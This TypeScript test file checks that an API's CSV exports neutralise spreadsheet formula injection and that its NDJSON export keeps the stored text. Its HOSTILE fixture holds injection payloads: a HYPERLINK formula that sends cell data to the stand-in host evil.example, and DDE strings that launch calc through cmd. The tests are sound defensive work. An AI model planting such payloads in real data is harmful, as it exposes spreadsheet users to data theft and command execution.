// CSV exports and formula injection (OWASP): a text cell a spreadsheet would run as a formula
// (beginning with =, +, -, @, a tab or a CR) leaves with a single quote before it, and so does one
// already beginning with a quote, so stripping one leading quote gives the stored text back.
// Numbers stay numbers: a negative number is a value, not a formula.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../src/exports/csv.js';
import { admin, seedCompetition, testApp, type TestApp } from '../support/app.js';
import { csvObjects } from '../support/csv.js';

describe('csvField', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ["'quoted", "''quoted"],
    ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
    ['a=b', 'a=b'],
    ['x-1', 'x-1'],
    ['', ''],
  ])('text %j is written %j', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it.each([
    [-1, '-1'],
    [-0.5, '-0.5'],
    [-1e21, '-1e+21'],
    [3, '3'],
  ])('the number %d is written %j, as a number', (value, written) => {
    expect(csvField(value)).toBe(written);
  });
});

const HOSTILE = {
  prompt: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  referenceAnswer: '+cmd|"/c calc"!A0',
  category: '@SUM(1+1)*cmd|"/c calc"!A0',
  dockerImage: '\t=1+1',
};

let t: TestApp;
beforeAll(async () => {
  t = await testApp();
  const { validatorKey } = await seedCompetition(t, 'c');
  const qna = {
    ...HOSTILE,
    repositoryUrl: 'grafana/k6',
    language: 'go',
    repositoryBaseCommit: 'e'.repeat(40),
    rubric: [{ id: 'a'.repeat(32), type: 'positive', title: '-1+1', importance: 'must have' }],
  };
  const tasks = [
    { id: '-1', type: 'swebench_verified' },
    { id: 'q', type: 'swe_atlas_qna', qna },
  ];
  const put = await t.call({ method: 'PUT', url: '/v1/competitions/c/tasks', headers: admin, payload: { tasks } });
  expect(put.body).toEqual({ imported: 2, updated: 0, unchanged: 0 });
  const runs = [{ runId: '-5', taskId: '-1', kind: 'miner', minerHotkey: '-m', resolved: true, tokens: null }];
  const posted = await t.call({
    method: 'POST',
    url: '/v1/competitions/c/runs',
    headers: { authorization: `Bearer ${validatorKey}` },
    payload: { runs },
  });
  expect(posted.body).toEqual({ accepted: 1, duplicates: 0 });
});
afterAll(async () => t.close());

const csv = async (what: 'runs' | 'tasks') =>
  (await t.app.inject({ method: 'GET', url: `/v1/competitions/c/${what}/export?format=csv`, headers: admin })).body;

describe('CSV exports', () => {
  it('the runs export quotes ids beginning with a minus; its numbers stay numbers', async () => {
    const [row] = csvObjects(await csv('runs'));
    expect(row).toMatchObject({ runId: "'-5", taskId: "'-1", minerHotkey: "'-m", seq: '1', resolved: 'true' });
  });

  it('the tasks export quotes every formula-looking text, and one leading quote taken off gives it back', async () => {
    const rows = csvObjects(await csv('tasks'));
    const q = rows.find((r) => r.id === 'q')!;
    for (const [field, text] of Object.entries(HOSTILE)) {
      expect(q[field]).toBe(`'${text}`);
      expect(q[field]!.slice(1)).toBe(text);
    }
    expect(rows.find((r) => r.id === "'-1")).toMatchObject({ type: 'swebench_verified', runCount: '1' });
    // No cell of either export begins with a character a spreadsheet runs.
    for (const what of ['runs', 'tasks'] as const)
      for (const r of csvObjects(await csv(what)))
        for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the NDJSON export keeps the text as stored', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/v1/competitions/c/tasks/export', headers: admin });
    const q = res.body
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>)
      .find((r) => r.id === 'q')!;
    expect(q).toMatchObject(HOSTILE);
  });
});
